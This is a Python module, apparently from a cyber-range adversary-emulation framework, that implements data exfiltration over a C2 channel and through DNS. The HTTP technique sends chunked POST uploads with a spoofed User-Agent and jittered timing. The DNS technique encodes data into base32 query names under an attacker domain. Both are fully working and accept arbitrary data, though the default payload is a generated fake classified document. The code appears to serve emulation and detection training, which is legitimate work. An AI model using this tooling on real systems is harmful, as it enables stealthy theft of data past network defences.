"""Exfiltration: T1041 over the C2 channel (HTTP POST uploads) and T1048 over DNS (tunnelling).

The document is ``params.data`` (text) or ``size`` bytes of generated text (a repeatable fake
classified document, ``seed``). Both techniques end with a message carrying the SHA-256 so the
C2 listener can confirm the reassembled bytes (the ``complete`` fact).

* T1041: one HTTP POST per chunk (``/upload/<session>/<seq>``) then ``/upload/<session>/done``,
  each on its own kernel TCP connection counted with TCP_INFO (``c2.http_request``).
* T1048: the document is base32-encoded (lower case, no padding) and cut into query names
  ``<label>.<label>...<seq hex>.<session>.d.<domain>`` (labels of at most 63 characters, names
  of at most 253), then ``<chunks hex>.<sha256[:16]>.<session>.f.<domain>``; one UDP 5-tuple,
  one datagram per query, paced at ``rate`` queries/s with ``jitter``.
"""
from __future__ import annotations

import base64
import hashlib
import json
import random
import secrets
import time

from cyberrange.attack.spec import Param, technique
from cyberrange.attack.techniques.c2 import (
    CUT_AFTER,
    DEAD,
    DnsClient,
    first_rdata,
    http_request,
    jittered,
    parse_service,
)
from cyberrange.attack.techniques.common import Blocked, Result, conclude

MAX_DOCUMENT = 50_000_000

_DOC = {
    "data": Param(str, "", "the text to exfiltrate (empty: generate `size` bytes)"),
    "size": Param(int, 4096, "bytes of generated document when `data` is empty"),
    "seed": Param(int, 7, "seed of the generated document and of the jitter"),
    "session": Param(str, "", "session label (random if empty)"),
}


def make_document(params: dict) -> bytes:
    """The document of a step: ``data``, or ``size`` bytes generated from ``seed``."""
    data = params["data"]
    if data:
        return str(data).encode()
    size = int(params["size"])
    if not 0 < size <= MAX_DOCUMENT:
        raise ValueError(f"size must be 1..{MAX_DOCUMENT} bytes")
    rng = random.Random(int(params["seed"]))
    words = ("grid", "convoy", "fuel", "ammo", "relay", "sector", "bravo", "uplink", "north",
             "patrol", "depot", "sortie", "0400Z", "hold", "advance", "resupply")
    out, n = [], 0
    while n < size:
        line = (f"SECRET//REL line {len(out):05d}: "
                + " ".join(rng.choice(words) for _ in range(10)) + "\n")
        out.append(line)
        n += len(line)
    return "".join(out).encode()[:size]


def _doc_or_error(params: dict, res: Result) -> bytes | None:
    try:
        return make_document(params)
    except ValueError as exc:
        res.outcome, res.error, res.end = "error", str(exc), time.time()
        return None


# --------------------------------------------------------------------------- T1041
@technique(
    "T1041", "Exfiltration Over C2 Channel (HTTP POST uploads)", "exfiltration",
    {**_DOC,
     "chunk": Param(int, 4096, "bytes per POST"),
     "rate": Param((int, float), 0, "POSTs per second (0: back to back)"),
     "jitter": Param((int, float), 0, "fraction of the spacing varied at random"),
     "path": Param(str, "/upload", "URL path prefix of the uploads"),
     "port": Param(int, 8443, "listener port for targets given without :port"),
     "user_agent": Param(str, "Mozilla/5.0 (Windows NT 10.0; Win64; x64)", "User-Agent header")},
    produces=("bytes", "chunks", "sha256", "session", "complete", "confirmed"),
    target_kind="service")
def http_exfil(targets: list[str], params: dict) -> Result:
    res = Result(start=time.time())
    doc = _doc_or_error(params, res)
    if doc is None:
        return res
    chunk = max(1, min(int(params["chunk"]), 1_000_000))
    rate = float(params["rate"] or 0)          # chunks per second (0: back to back)
    jitter = float(params["jitter"])
    ua = str(params["user_agent"])
    prefix = str(params["path"]).rstrip("/")
    session = str(params["session"] or secrets.token_hex(4))
    ip, port = parse_service(targets[0], params["port"])
    if len(targets) > 1:
        res.log.append(f"exfiltrating to one listener: {ip}:{port}")
    rng = random.Random(params["seed"])
    pieces = [doc[i:i + chunk] for i in range(0, len(doc), chunk)]
    sent_bytes, statuses = 0, {}
    digest = hashlib.sha256(doc).hexdigest()
    complete = confirmed = False
    try:
        for seq, piece in enumerate(pieces):
            if seq and rate > 0:
                time.sleep(jittered(1.0 / rate, jitter, rng))
            status, fl, _b = http_request(ip, port, "POST", f"{prefix}/{session}/{seq}", piece,
                                          ua, {"Content-Type": "application/octet-stream"})
            res.flows.append(fl)
            statuses[status] = statuses.get(status, 0) + 1
            if status == "ok":
                sent_bytes += len(piece)
            elif status in DEAD:
                res.log.append(f"chunk {seq}: {status}; stopping")
                if sent_bytes:
                    res.cut(f"{ip}:{port} stopped taking uploads ({status}) after {seq} "
                            f"chunks: a block or an isolation mid-step")
                break
        if sent_bytes == len(doc):
            meta = json.dumps({"chunks": len(pieces), "sha256": digest}).encode()
            status, fl, body = http_request(ip, port, "POST", f"{prefix}/{session}/done", meta,
                                            ua, {"Content-Type": "application/json"})
            res.flows.append(fl)
            try:
                answer = json.loads(body) if status == "ok" else None
            except ValueError:
                answer = None
            if isinstance(answer, dict) and "ok" in answer:
                confirmed = True                  # the listener joined the pieces, checked
                complete = bool(answer["ok"])     # the hash and said whether it matches
            else:
                # every chunk was accepted (2xx), so every byte arrived; the listener does
                # not reassemble on this path (the C2 listener does so under /upload only)
                complete = True
                res.log.append(f"every chunk accepted; {prefix or '/'}/{session}/done "
                               f"answered {status} without a hash check")
    except Blocked as exc:          # the actor's own node stopped sending
        res.cut(exc.reason)
    res.log.append(f"{len(pieces)} chunks of {chunk} bytes; statuses {statuses}")
    res.facts = {"bytes": sent_bytes, "chunks": len(pieces), "sha256": digest,
                 "session": session, "complete": complete, "confirmed": confirmed}
    return conclude(res, complete, not sent_bytes and set(statuses) <= set(DEAD)
                    and "every upload was refused or dropped (a firewall on the path)")


# --------------------------------------------------------------------------- T1048 (DNS)
def dns_names(doc: bytes, session: str, domain: str, chars: int) -> list[str]:
    """The query names that carry ``doc`` (data queries, then the final one)."""
    text = base64.b32encode(doc).decode().rstrip("=").lower()
    tail_max = len(f".{0xFFFFFFF:x}.{session}.d.{domain}")
    room = 253 - tail_max
    per = max(1, min(int(chars), room - room // 64))     # data characters per name
    names = []
    for seq, i in enumerate(range(0, len(text), per)):
        part = text[i:i + per]
        labels = ".".join(part[j:j + 63] for j in range(0, len(part), 63))
        names.append(f"{labels}.{seq:x}.{session}.d.{domain}")
    names.append(f"{len(names):x}.{hashlib.sha256(doc).hexdigest()[:16]}.{session}.f.{domain}")
    return names


@technique(
    "T1048", "Exfiltration Over Alternative Protocol: DNS tunnelling", "exfiltration",
    {**_DOC,
     "domain": Param(str, "evil.example", "the attacker's domain"),
     "rate": Param((int, float), 20, "queries per second (0: back to back)"),
     "jitter": Param((int, float), 0.1, "fraction of the spacing varied at random"),
     "chars": Param(int, 180, "base32 characters per query name (at most what fits)"),
     "timeout": Param((int, float), 1.0, "seconds to wait for each answer"),
     "retries": Param(int, 2, "resends of an unanswered query")},
    produces=("bytes", "queries", "sha256", "session", "complete"), target_kind="service")
def dns_exfil(targets: list[str], params: dict) -> Result:
    res = Result(start=time.time())
    doc = _doc_or_error(params, res)
    if doc is None:
        return res
    domain = str(params["domain"]).strip(".").lower()
    session = str(params["session"] or secrets.token_hex(4)).lower()
    rate = float(params["rate"] or 0)
    jitter = float(params["jitter"])
    rng = random.Random(params["seed"])
    names = dns_names(doc, session, domain, int(params["chars"]))
    ip, port = parse_service(targets[0], 53)
    if len(targets) > 1:
        res.log.append(f"exfiltrating through one server: {ip}:{port}")
    client = None
    answered, lost, in_a_row, final = 0, 0, 0, None
    t0 = time.monotonic()
    due = t0
    try:
        client = DnsClient(ip, port, float(params["timeout"]), int(params["retries"]))
        for k, name in enumerate(names):
            if k and rate > 0:
                due += jittered(1.0 / rate, jitter, rng)
                delay = due - time.monotonic()
                if delay > 0:
                    time.sleep(delay)
            ans = client.query(name, "A")
            if ans is None:
                lost += 1
                in_a_row += 1
                if answered == 0 and k >= 2:
                    res.log.append("no answer to the first queries; stopping")
                    break
                if answered and in_a_row >= CUT_AFTER:
                    res.cut(f"{ip}:{port} stopped answering after {answered} answered queries "
                            f"({in_a_row} in a row unanswered): a block mid-step")
                    break
                continue
            answered += 1
            in_a_row = 0
            if k == len(names) - 1:
                final = first_rdata(ans)
    except Blocked as exc:          # the actor's own node stopped sending
        res.cut(exc.reason)
    finally:
        if client is not None:
            res.flows.append(client.close())
    took = time.monotonic() - t0
    complete = final == "10.0.0.1"
    queries = client.packets if client else 0
    res.log.append(f"{len(names)} names, {queries} datagrams ({lost} unanswered after "
                   f"retries) in {took:.2f}s")
    res.facts = {"bytes": len(doc), "queries": queries,
                 "sha256": hashlib.sha256(doc).hexdigest(), "session": session,
                 "complete": complete}
    return conclude(res, complete, answered == 0 and "no query was answered (a firewall "
                                                      "drops them, or no server listens)")
